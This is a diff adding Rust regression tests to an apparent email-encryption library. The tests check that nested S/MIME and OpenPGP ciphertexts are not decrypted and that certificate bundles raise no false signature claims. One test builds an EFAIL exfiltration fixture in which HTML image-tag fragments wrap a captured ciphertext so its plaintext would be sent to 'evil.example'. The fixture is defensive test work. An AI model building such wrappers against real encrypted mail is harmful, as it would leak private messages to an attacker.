@@ -466,6 +466,11 @@ fn fail_signed_message_as_an_attachment_is_not_valid() {
             let case = format!("{:?} {shape}", std.method);
             let o = open_as_bob(std, &raw);
             assert_not_valid(&o, &case);
+            assert!(
+                !o.warnings.iter().any(|w| w.contains("encrypted part")),
+                "{case}: a signed attachment is not an encrypted one: {:?}",
+                o.warnings
+            );
             assert!(o.signature.signer.is_none(), "{case}");
             assert!(!o.attachments.is_empty(), "{case}: listed as an attachment");
             assert!(
@@ -773,6 +778,9 @@ fn fail_efail_direct_exfiltration_is_not_decrypted() {
                 o.encryption
             );
             assert!(!anywhere(&o, SECRET), "{case}: plaintext leaked");
+            // A ciphertext is not a signed part: no "partially signed" claim either.
+            assert_eq!(o.signature.state, SignatureState::None, "{case}");
+            assert_eq!(o.signature.scope, None, "{case}: {:?}", o.signature);
             assert!(
                 o.attachments
                     .iter()
@@ -1188,4 +1196,88 @@ fn outer_subject_changes_do_not_reach_the_display() {
             "{case}"
         );
     }
+}
+
+/// EFAIL (§4) and "Re: What's up Johnny?" (§4, wrapping) behind a genuine outer layer: a
+/// captured ciphertext for bob inside a message that is itself validly signed, or itself
+/// encrypted to bob, is still nested and never decrypted; a second encryption layer directly
+/// inside the first is not opened either.
+#[test]
+fn fail_ciphertext_behind_another_layer_is_not_decrypted() {
+    for std in BOTH {
+        let captured = entity(&genuine(std, ENCRYPTED, &format!("The code is {SECRET}.")));
+        let exfiltrating = multipart(
+            "mixed",
+            &[
+                html_part("<img src=\"http://evil.example/?"),
+                captured.clone(),
+                html_part("\">"),
+            ],
+        );
+        let from = format!("Alice <{}>", std.alice);
+        let inner = with_fields(
+            &message(&from, &exfiltrating),
+            "to",
+            &[&format!("To: {}", std.bob)],
+        );
+        let bare = with_fields(
+            &message(&from, &captured),
+            "to",
+            &[&format!("To: {}", std.bob)],
+        );
+        for (shape, raw, decrypted) in [
+            (
+                "signed wrapper",
+                protect_as(std, SIGNED, Message::Raw(&inner)),
+                false,
+            ),
+            (
+                "encrypted wrapper",
+                protect_as(std, ENCRYPTED, Message::Raw(&inner)),
+                true,
+            ),
+            (
+                "ciphertext directly inside an encryption",
+                protect_as(std, ENCRYPTED, Message::Raw(&bare)),
+                true,
+            ),
+        ] {
+            let case = format!("{:?} {shape}", std.method);
+            let o = open_as_bob(std, &raw);
+            let expected = if decrypted {
+                EncryptionState::Decrypted
+            } else {
+                EncryptionState::None
+            };
+            assert_eq!(o.encryption.state, expected, "{case}: {:?}", o.encryption);
+            assert!(!anywhere(&o, SECRET), "{case}: nested plaintext leaked");
+            assert!(!o.warnings.is_empty(), "{case}: no warning");
+            if shape == "signed wrapper" {
+                assert_eq!(o.signature.state, SignatureState::Valid, "{case}");
+            }
+        }
+    }
+}
+
+/// A certificate bundle (`certs-only`, RFC 8551 §3.8; made by `openssl crl2pkcs7`) attached
+/// to a plain message is an ordinary attachment: no "partially signed" claim, no warning.
+#[test]
+fn an_attached_certificate_bundle_is_neither_signed_nor_encrypted() {
+    let p7c = mailseal::mime::base64_body(fixture("keys/alice-chain.p7b"));
+    let part = format!(
+        "Content-Type: application/pkcs7-mime; smime-type=certs-only; name=\"smime.p7c\"\r\n\
+         Content-Transfer-Encoding: base64\r\n\
+         Content-Disposition: attachment; filename=\"smime.p7c\"\r\n\r\n{}",
+        String::from_utf8(p7c).unwrap()
+    );
+    let raw = message(
+        "alice@example.com",
+        &multipart("mixed", &[text_part("My certificate."), part]),
+    );
+    let o = open_as_bob(&SMIME, &raw);
+    assert_eq!(o.signature.state, SignatureState::None);
+    assert_eq!(o.signature.scope, None, "{:?}", o.signature);
+    assert!(o.warnings.is_empty(), "{:?}", o.warnings);
+    assert_eq!(o.attachments.len(), 1);
+    assert_eq!(o.attachments[0].filename, "smime.p7c");
 }
